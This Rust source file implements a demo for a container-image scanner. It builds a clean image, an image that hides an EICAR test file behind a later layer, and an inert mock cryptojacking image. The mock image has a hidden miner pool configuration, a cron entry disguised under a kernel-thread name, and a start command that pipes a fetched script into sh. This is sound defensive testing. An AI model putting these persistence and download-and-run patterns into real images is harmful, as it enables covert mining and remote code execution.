//! `customs demo`: the embedded default. Builds two small images offline and scans them with
//! the same code path as `customs scan`, so a fresh clone shows the gate working.

use std::path::PathBuf;

use anyhow::{Context, Result};
use clap::Args;
use customs_test_support::fixtures::{self, Compression, Entry, ImageSpec, LayerSpec};

use crate::report::Format;
use crate::scan::{self, ScanArgs};

/// Arguments of `customs demo`.
#[derive(Args, Debug)]
pub struct DemoArgs {
    /// Keep the sample images in DIR (as OCI layouts `DIR/clean` and `DIR/eicar`) instead
    /// of a temporary directory, to scan them again by hand.
    #[arg(long, value_name = "DIR")]
    pub keep: Option<PathBuf>,
    /// Report format.
    #[arg(long, value_enum, default_value_t = Format::Table)]
    pub format: Format,
}

fn app_layer() -> LayerSpec {
    LayerSpec {
        entries: vec![
            Entry::Dir {
                path: "etc".into(),
                mode: 0o755,
            },
            Entry::file(
                "etc/os-release",
                b"PRETTY_NAME=\"customs demo\"\nID=demo\n".to_vec(),
            ),
            Entry::Dir {
                path: "app".into(),
                mode: 0o755,
            },
            Entry::file("app/README", b"A harmless sample application.\n".to_vec()),
        ],
        compression: Compression::Gzip,
        created_by: Some("COPY app/ /app/ # demo".into()),
    }
}

/// Runs the demo; exit 0 when both verdicts are the expected ones.
/// An image shaped like the cryptojacking images found on public registries: a miner
/// configuration under a hidden directory, a cron entry that restarts the miner from /tmp
/// under a kernel-thread name, and a start command that downloads and runs a script. Inert
/// text written for the demo: there is no miner binary, and the address is documentation
/// space (RFC 5737).
fn miner_image() -> ImageSpec {
    let config = br#"{
  "autosave": true,
  "cpu": { "enabled": true, "max-threads-hint": 90 },
  "donate-level": 0,
  "pools": [
    { "url": "stratum+tcp://pool.supportxmr.com:3333", "user": "worker-demo", "pass": "x", "keepalive": true }
  ]
}
"#;
    ImageSpec::new(vec![
        app_layer(),
        LayerSpec {
            entries: vec![
                Entry::Dir {
                    path: "etc/.sys".into(),
                    mode: 0o755,
                },
                Entry::file("etc/.sys/config.json", config.to_vec()),
                Entry::Dir {
                    path: "etc/cron.d".into(),
                    mode: 0o755,
                },
                Entry::file(
                    "etc/cron.d/sysupdate",
                    b"* * * * * root /tmp/.x/kworker -c /etc/.sys/config.json\n".to_vec(),
                ),
            ],
            compression: Compression::Gzip,
            created_by: Some("COPY sys/ /etc/ # demo".into()),
        },
    ])
    .cmd(&["sh", "-c", "curl -s http://203.0.113.7/x.sh | sh"])
}

pub fn run(args: DemoArgs) -> Result<u8> {
    let tmp = tempfile::tempdir().context("can not create a temporary directory")?;
    let root = args
        .keep
        .clone()
        .unwrap_or_else(|| tmp.path().to_path_buf());
    let clean_dir = root.join("clean");
    let eicar_dir = root.join("eicar");
    let miner_dir = root.join("miner");
    for d in [&clean_dir, &eicar_dir, &miner_dir] {
        std::fs::create_dir_all(d).with_context(|| format!("can not create `{}`", d.display()))?;
    }
    let clean = ImageSpec::new(vec![app_layer()]);
    // The test file is added, then deleted by a later layer: still shipped in the image,
    // and invisible to tools that only look at the final filesystem.
    let eicar = ImageSpec::new(vec![
        app_layer(),
        LayerSpec {
            entries: vec![Entry::file("app/eicar.com", fixtures::EICAR.to_vec())],
            compression: Compression::Zstd,
            created_by: Some("COPY eicar.com /app/ # demo".into()),
        },
        LayerSpec {
            entries: vec![Entry::Whiteout("app/eicar.com".into())],
            compression: Compression::Gzip,
            created_by: Some("RUN rm /app/eicar.com # demo".into()),
        },
    ]);
    fixtures::write_oci_layout(&miner_dir, &[("demo", &miner_image())])
        .context("can not write the miner sample image")?;
    fixtures::write_oci_layout(&clean_dir, &[("demo", &clean)])
        .context("can not write the clean sample image")?;
    fixtures::write_oci_layout(&eicar_dir, &[("demo", &eicar)])
        .context("can not write the EICAR sample image")?;
    eprintln!(
        "customs demo: scanning three sample images built in {}: a clean one, one whose \
         EICAR test file is deleted by a later layer, and one set up like a cryptojacking image \
         (miner configuration, cron persistence, a start command that fetches a script)",
        root.display()
    );
    // One scan per image, so each image's own exit code is checked.
    let mut codes = Vec::new();
    for (i, dir) in [&clean_dir, &eicar_dir, &miner_dir].into_iter().enumerate() {
        if i > 0 && matches!(args.format, Format::Table) {
            println!();
        }
        codes.push(scan::run(ScanArgs::for_demo(
            vec![format!("oci:{}:demo", dir.display())],
            args.format,
        ))?);
    }
    if codes == [0, 1, 1] {
        eprintln!(
            "customs demo: as expected, the clean image passed and the EICAR and miner images failed the gate."
        );
        Ok(0)
    } else {
        eprintln!(
            "customs demo: UNEXPECTED exit codes {codes:?} (clean, EICAR, miner; expected [0, 1, 1]): the gate is not working."
        );
        Ok(2)
    }
}
